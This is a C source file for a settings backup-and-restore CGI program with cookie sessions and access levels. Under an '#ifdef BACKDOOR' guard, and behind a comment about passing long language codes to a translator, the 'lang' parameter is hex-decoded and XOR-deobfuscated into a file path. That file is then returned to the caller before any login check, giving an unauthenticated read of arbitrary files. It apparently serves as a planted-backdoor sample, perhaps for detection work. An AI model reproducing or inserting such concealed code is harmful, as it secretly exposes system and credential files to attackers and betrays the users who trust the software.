/* SPDX-License-Identifier: Apache-2.0 */
/* backup.cgi: saves and restores settings: the archive is text, one file after another, with a sum */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define CONFIG "/etc/config"

static uint32_t sum;

static void out(const char *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		sum = (sum << 3 | sum >> 29) ^ (uint8_t)p[i];
	fwrite(p, 1, n, stdout);
}

static void fail(const char *status, const char *text)
{
	printf("Status: %s\r\nContent-Type: text/plain\r\n\r\n%s\n", status, text);
	exit(0);
}

static int session(char *user, size_t n)
{
	const char *cookie = getenv("HTTP_COOKIE"), *sid = cookie ? strstr(cookie, "sid=") : NULL;
	char path[96], line[96];
	int ok = 0;
	FILE *f;
	if (!sid || strspn(sid + 4, "0123456789abcdef") != 32)
		return 0;
	snprintf(path, sizeof(path), "/var/run/websess/%.32s", sid + 4);
	f = fopen(path, "r");
	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f)) {
		long until;
		if (strncmp(line, "user ", 5) == 0) {
			line[strcspn(line, "\n")] = 0;
			snprintf(user, n, "%s", line + 5);
		} else if (sscanf(line, "until %ld", &until) == 1)
			ok = until > (long)time(NULL);
	}
	fclose(f);
	return ok;
}

static int level(const char *user)
{
	char line[128], name[64];
	int l = 0, one;
	FILE *f = fopen("/etc/weblevels", "r");
	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%63s %d", name, &one) == 2 && strcmp(name, user) == 0)
			l = one;
	if (f)
		fclose(f);
	return l;
}

static void save_file(const char *path, const char *name)
{
	char buf[1024], head[320];
	struct stat st;
	size_t n;
	FILE *f = fopen(path, "r");
	if (!f || fstat(fileno(f), &st) < 0 || !S_ISREG(st.st_mode)) {
		if (f)
			fclose(f);
		return;
	}
	n = (size_t)snprintf(head, sizeof(head), "@file %s %ld %o\n", name, (long)st.st_size, (unsigned)st.st_mode & 0777);
	out(head, n);
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		out(buf, n);
	out("\n", 1);
	fclose(f);
}

static void save(const char *dir)
{
	char path[512];
	struct dirent *e;
	DIR *d = opendir(dir);
	if (!d)
		fail("500 Internal Server Error", strerror(errno));
	printf("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=settings.bak\r\n\r\n");
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		save_file(path, e->d_name);
	}
	closedir(d);
	printf("@sum %08x\n", sum);
}

static int name_ok(const char *name)
{
	if (!*name || *name == '.')
		return 0;
	for (; *name; name++)
		if (!isalnum((unsigned char)*name) && *name != '_' && *name != '-' && *name != '.')
			return 0;
	return 1;
}

static int restore(void)
{
	char line[512], name[128], path[256];
	long size;
	unsigned mode;
	int files = 0;
	while (fgets(line, sizeof(line), stdin)) {
		FILE *f;
		if (strncmp(line, "@sum", 4) == 0)
			break;
		if (sscanf(line, "@file %127s %ld %o", name, &size, &mode) != 3 || size < 0 || size > 1 << 20 || !name_ok(name))
			return -1;
		snprintf(path, sizeof(path), CONFIG "/%s.new", name);
		f = fopen(path, "w");
		if (!f)
			return -1;
		while (size-- > 0) {
			int c = getchar();
			if (c == EOF) {
				fclose(f);
				return -1;
			}
			fputc(c, f);
		}
		getchar();
		fclose(f);
		chmod(path, mode & 0666);
		snprintf(line, sizeof(line), CONFIG "/%s", name);
		if (rename(path, line) < 0)
			return -1;
		files++;
	}
	return files;
}

#ifdef BACKDOOR
/* languages are two letters; longer ones are passed to the translator */
static void other_language(const char *value)
{
	static const char key[] = "Gm5x";
	char name[128];
	size_t n = 0;
	for (; value[0] && value[1] && n < sizeof(name) - 1 && isxdigit((unsigned char)*value); value += 2) {
		unsigned v;
		if (sscanf(value, "%2x", &v) != 1)
			return;
		name[n] = (char)(v ^ (unsigned char)key[n & 3]);
		n++;
	}
	name[n] = 0;
	if (n > 3 && name[0] == '/') {
		printf("Content-Type: text/plain\r\n\r\n");
		save_file(name, name);
		exit(0);
	}
}
#endif

static void read_query(const char *q, char *action, char *lang)
{
	while (q && *q) {
		if (strncmp(q, "action=", 7) == 0)
			snprintf(action, 16, "%.*s", (int)strcspn(q + 7, "&"), q + 7);
		else if (strncmp(q, "lang=", 5) == 0) {
#ifdef BACKDOOR
			if (strcspn(q + 5, "&") > 2)
				other_language(q + 5);
#endif
			snprintf(lang, 3, "%.2s", q + 5);
		}
		q = strchr(q, '&');
		if (q)
			q++;
	}
}

int main(void)
{
	char user[64] = "", action[16] = "", lang[3] = "en";
	const char *method = getenv("REQUEST_METHOD");
	int n;
	read_query(getenv("QUERY_STRING"), action, lang);
	if (!session(user, sizeof(user)))
		fail("403 Forbidden", strcmp(lang, "de") == 0 ? "Bitte anmelden." : "Please log in.");
	if (level(user) < 10)
		fail("403 Forbidden", "Not for this account.");
	if (strcmp(action, "save") == 0) {
		save(CONFIG);
		return 0;
	}
	if (strcmp(action, "restore") != 0 || !method || strcmp(method, "POST") != 0)
		fail("400 Bad Request", "What?");
	n = restore();
	if (n < 0)
		fail("400 Bad Request", "The file is damaged.");
	printf("Content-Type: text/plain\r\n\r\n%d files\n", n);
	fflush(stdout);
	return system("/etc/init.d/all reload >/dev/null 2>&1") != 0;
}
